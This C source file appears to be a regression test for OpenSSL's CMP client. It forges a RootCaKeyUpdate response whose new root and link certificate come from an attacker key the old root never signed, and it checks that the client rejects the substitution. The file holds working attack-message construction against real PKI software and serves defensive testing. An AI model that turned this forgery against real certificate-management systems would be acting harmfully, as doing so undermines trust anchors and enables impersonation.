/* vulnerability: CVE-2026-42769: a new root that the old one has not signed is not taken */
#define _GNU_SOURCE
#include <dlfcn.h>
#include "support/attack.h"
#include "support/authority.h"
#include "support/genp.h"

static EVP_PKEY *old_key, *forger_key;
static X509 *old_root, *new_root, *link_certificate;

static int (*get1_rootCaKeyUpdate)(OSSL_CMP_CTX *ctx, const X509 *old, X509 **new_with_new, X509 **new_with_old, X509 **old_with_new);

static struct der encoding(X509 *certificate)
{
    unsigned char *bytes = NULL;
    int length = i2d_X509(certificate, &bytes);
    struct der copy = der_join((struct der){ bytes, (size_t)length }, der_nothing);

    OPENSSL_free(bytes);
    return copy;
}

/* RootCaKeyUpdateContent ::= SEQUENCE { newWithNew, newWithOld [0] OPTIONAL, oldWithNew [1] OPTIONAL } */
static void update_root(struct message *message)
{
    struct der update = der_join(encoding(new_root), der_wrap(0xa0, encoding(link_certificate)));

    message->body = der_wrap(TAG_GENP, der_wrap(0x30, genp_item(IT_ROOT_CA_KEY_UPDATE, der_wrap(0x30, update))));
    alter_protect(message, ATTACK_SECRET);
}

static int ask(OSSL_CMP_CTX *ctx)
{
    X509 *got[3] = { NULL, NULL, NULL };
    int updated = get1_rootCaKeyUpdate(ctx, old_root, &got[0], &got[1], &got[2]);

    for (int i = 0; i < 3; i++)
        X509_free(got[i]);
    return updated;
}

int main(int argc, char **argv)
{
    static const struct attack attack = { .spoil = update_root, .transact = ask };
    int status;

    *(void **)&get1_rootCaKeyUpdate = dlsym(RTLD_DEFAULT, "OSSL_CMP_get1_rootCaKeyUpdate");
    if (get1_rootCaKeyUpdate == NULL)
        return printf("absent\n") < 0;
    old_key = authority_key();
    forger_key = authority_key();
    old_root = authority_issue("root", old_key, NULL, old_key, PLAIN);
    new_root = authority_issue("root", forger_key, NULL, forger_key, PLAIN);
    link_certificate = authority_issue("root", forger_key, old_root, forger_key, PLAIN); /* names the old root, which has not signed it */
    status = attack_main(argc, argv, &attack, "ec");
    X509_free(old_root);
    X509_free(new_root);
    X509_free(link_certificate);
    EVP_PKEY_free(old_key);
    EVP_PKEY_free(forger_key);
    return status;
}
